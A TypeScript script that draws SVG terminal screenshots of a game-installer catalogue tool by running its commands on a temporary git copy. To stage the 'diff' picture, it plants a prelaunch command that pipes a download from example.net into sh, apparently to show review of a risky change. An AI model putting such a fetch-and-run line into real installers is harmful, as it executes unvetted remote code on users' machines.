import { execFileSync } from 'node:child_process';
import { chmodSync, cpSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { packTar } from 'modern-tar';
import { PROJECT } from '../project.ts';
import { runCommand } from '../run-command.ts';
import { standInDoor } from '../stand-in-door.ts';
import { terminalSvg } from './terminal-svg.ts';

/** Where the pictures lie. */
export const FOLDER = join(PROJECT, '.github/pictures/terminal');

/** Records that commands without a picture of their own change first. */
type Before = (folder: string) => void;

/** A picture: what a person types, and what has happened to the catalogue until then. */
interface TerminalPicture {
  readonly name: string;
  readonly words: readonly string[];
  readonly before?: Before;
  /** Lines of the output that are shown; all if not said. */
  readonly lines?: number;
}

const RECORD = 'catalogue/games/s/space-taxi/space-taxi-1-0-linux.yaml';

const DOWNLOAD = 'https://example.org/space-taxi-1.0-linux.tar';

/** What stands at that address. */
const GAME = ['start.sh', 'taxi.pak', 'README'].map((name) => {
  const body = name === 'start.sh' ? '#!/bin/sh\n' : 'x'.repeat(900);
  return { header: { name: `space-taxi-1.0/${name}`, size: body.length, mtime: new Date(0) }, body };
});

const FORGE = 'https://github.com/you/game-installer-catalogue';

/** Below the folder of git: what stands for the forge and its program. */
const STAND_INS = '.git/stand-ins';

const CHECKSUM = /        checksum: sha256:[0-9a-f]{64}\n/;

/** In the order in which a person would do all this, each with what those before have left. */
const TERMINAL_PICTURES: readonly TerminalPicture[] = [
  { name: 'show', words: ['show', 'quake-shareware-vkquake'] },
  { name: 'new', words: ['new', DOWNLOAD, '--year', '1984'] },
  {
    name: 'rehearse-fails',
    words: ['rehearse', 'space-taxi'],
    before: edit(RECORD, [
      ['chmodx: $GAMEDIR/game/start.sh', 'chmodx: $GAMEDIR/game/bin/start.sh'],
      ['exe: $GAMEDIR/game/start.sh', 'exe: $GAMEDIR/game/bin/start.sh'],
    ]),
  },
  {
    name: 'rehearse-works',
    words: ['rehearse', 'space-taxi'],
    before: edit(RECORD, [
      ['chmodx: $GAMEDIR/game/bin/start.sh', 'chmodx: $GAMEDIR/game/start.sh'],
      ['exe: $GAMEDIR/game/bin/start.sh', 'exe: $GAMEDIR/game/start.sh'],
    ]),
  },
  {
    name: 'check-findings',
    words: ['check', 'space-taxi'],
    before: edit(RECORD, [
      ['url: https', 'url: http'],
      ['    - extract:', '    - extrct:'],
      ['user: your-name', 'user: yes'],
      [CHECKSUM, ''],
    ]),
  },
  { name: 'explain', words: ['explain', 'plain-http'] },
  {
    name: 'check-clean',
    words: ['check', 'space-taxi'],
    before: edit(RECORD, [
      ['    - extrct:', '    - extract:'],
      ['url: http:', 'url: https:'],
      ['user: yes', 'user: your-name'],
      [
        'space-taxi-1.0-linux.tar\n  game:',
        `space-taxi-1.0-linux.tar\n        checksum: sha256:${'0123456789abcdef'.repeat(4)}\n  game:`,
      ],
    ]),
  },
  {
    name: 'fmt',
    words: ['fmt', 'space-taxi', '--check'],
    before: edit(RECORD, [['version: 1.0 Linux\nrunner: linux\n', 'runner: "linux"\nversion:    1.0 Linux\n']]),
  },
  { name: 'submit', words: ['submit', '--yes'] },
  {
    name: 'diff',
    words: ['diff', 'main'],
    lines: 36,
    before: edit('catalogue/games/r/red-eclipse/red-eclipse-linux.yaml', [
      ['user: catalogue-team', 'user: somebody-new'],
      ['script:\n', 'script:\n  system:\n    prelaunch_command: sh -c "curl -s https://example.net/hello | sh"\n'],
    ]),
  },
];

/** Draws every picture, of commands that are run on a copy of the catalogue in a folder. */
export async function drawPictures(folder: string): Promise<Map<string, string>> {
  cpSync(join(PROJECT, 'catalogue'), join(folder, 'catalogue'), { recursive: true });
  const git = (...words: string[]) => execFileSync('git', words, { cwd: folder, stdio: 'ignore' });
  git('init', '-q', '-b', 'main');
  git('add', '-A');
  git('config', 'user.name', 'your-name');
  git('config', 'user.email', 'you@example.org');
  git('commit', '-q', '-m', 'Begin');
  standIn(folder, git);
  const pictures = new Map<string, string>();
  for (const picture of TERMINAL_PICTURES) pictures.set(`${picture.name}.svg`, await draw(picture, folder));
  return pictures;
}

/** Makes a remote in the place of a forge, and a program that opens requests there. */
function standIn(folder: string, git: (...words: string[]) => void): void {
  const remote = join(folder, STAND_INS, 'remote');
  git('clone', '-q', '--bare', '.', remote);
  git('remote', 'add', 'origin', FORGE);
  git('config', `url.${remote}.insteadOf`, FORGE);
  git('fetch', '-q', 'origin');
  const gh = join(folder, STAND_INS, 'gh');
  writeFileSync(gh, `#!/bin/sh\necho ${FORGE}/pull/1\n`);
  chmodSync(gh, 0o755);
}

async function draw({ words, before: prepare, lines }: TerminalPicture, folder: string): Promise<string> {
  prepare?.(folder);
  const path = `${join(folder, STAND_INS)}:${process.env['PATH'] ?? ''}`;
  const body = await packTar(GAME);
  let output = '';
  const world = {
    workingFolder: folder,
    variables: { FORCE_COLOR: '1', PATH: path },
    now: () => Date.UTC(2026, 10, 2, 18, 30),
    openDoor: standInDoor(() => ({ body })),
    onText: (text: string) => {
      output += text;
    },
  };
  await runCommand(words, world);
  const command = commandText(['catalogue', ...words.map(quote)]);
  const rows = output.trimEnd().split('\n');
  const excerpt = rows.length > (lines ?? Infinity) ? [...rows.slice(0, lines), '…'] : rows;
  return terminalSvg(
    `What "catalogue ${words.join(' ')}" prints`,
    [`\u001B[2m$\u001B[22m ${command}`, ...excerpt].join('\n'),
  );
}

/** A command as a person would type it, on several lines where it is long. */
function commandText(words: readonly string[]): string {
  const parts = words.join(' ').split(/ (?=--)/);
  const lines = [''];
  for (const part of parts) {
    const last = lines.at(-1) ?? '';
    if (last.length + part.length > 90) lines.push(`    ${part}`);
    else lines[lines.length - 1] = last === '' ? part : `${last} ${part}`;
  }
  return lines.join(' \\\n');
}

function quote(word: string): string {
  return /^[\w./:-]+$/.test(word) ? word : `"${word}"`;
}

function edit(path: string, replacements: readonly (readonly [string | RegExp, string])[]): Before {
  return (folder) => {
    const file = join(folder, path);
    const text = readFileSync(file, 'utf8');
    const result = replacements.reduce((draft, [from, to]) => {
      if (!(typeof from === 'string' ? draft.includes(from) : from.test(draft)))
        throw new Error(`${path} has no "${String(from)}"`);
      return draft.replace(from, to);
    }, text);
    writeFileSync(file, result);
  };
}
